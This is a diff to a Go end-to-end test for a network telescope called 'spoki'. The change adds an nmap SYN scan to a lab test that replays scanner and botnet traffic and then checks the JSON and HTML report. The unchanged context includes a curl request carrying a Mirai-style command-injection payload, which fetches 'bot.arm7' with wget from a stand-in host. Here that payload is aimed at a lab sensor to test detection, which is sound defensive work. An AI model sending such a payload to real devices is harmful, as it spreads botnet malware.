@@ -18,14 +18,14 @@ import (
 )
 
 // TestReportFromLabRun runs a telescope in a lab, sends it what scanners
-// and bots send (the ZMap, masscan, Mirai and two-phase scenarios, curl
+// and bots send (the ZMap, masscan, Mirai and two-phase scenarios, nmap -sS, curl
 // with a downloader, openssl, ssh and a telnet bot logging in), and
 // renders `spoki report --json --html` from its event log. The JSON's
 // numbers are checked against counts taken here from the raw event lines,
 // and the page in headless Chromium: every section there, no CSP
 // violation on the console.
 func TestReportFromLabRun(t *testing.T) {
-	l := e2eNewLab(t, lab.Config{}, "curl", "openssl", "ssh", "nc", "chromium")
+	l := e2eNewLab(t, lab.Config{}, "curl", "openssl", "ssh", "nc", "nmap", "chromium")
 	tel := e2eStartTelescope(t, l)
 	bin := labSpokiBin(t)
 	for _, name := range []string{"scanners/zmap-syn.pkt", "scanners/masscan-syn.pkt", "scanners/mirai-telnet.pkt", "twophase/http-wget.pkt"} {
@@ -34,6 +34,10 @@ func TestReportFromLabRun(t *testing.T) {
 		if code != 0 || !strings.Contains(out, "--- PASS") {
 			t.Errorf("scenario %s: exit %d\n%s", name, code, out)
 		}
+	}
+	if _, errOut, code := e2eExec(t, l, l.Scanner, 90*time.Second, nil, "nmap", "-n", "-Pn", "-sS",
+		"-p", "22,23,80,443", "--max-retries", "0", "198.51.100.60"); code != 0 {
+		t.Errorf("nmap -sS: exit %d: %s", code, e2eTruncate(errOut, 500))
 	}
 	e2eExec(t, l, l.Scanner, 10*time.Second, nil, "curl", "-sS", "--noproxy", "*", "--max-time", "5",
 		"http://198.51.100.80/shell?cd+/tmp;wget+http://203.0.113.9/bot.arm7")
@@ -106,7 +110,7 @@ func TestReportFromLabRun(t *testing.T) {
 		t.Errorf("report: syns %d irregular %d sources %d sessions %d two-phase %d; the log holds %d %d %d %d %d",
 			tt.SYNs, tt.Irregular, tt.Sources, tt.Sessions, r.TwoPhase.Events, syns, irregular, len(sources), sessions, twoPhase)
 	}
-	for _, want := range []string{"zmap", "masscan", "mirai"} {
+	for _, want := range []string{"zmap", "masscan", "mirai", "nmap"} {
 		if scanners[want] == 0 {
 			t.Errorf("the log has no %s SYN", want)
 		}
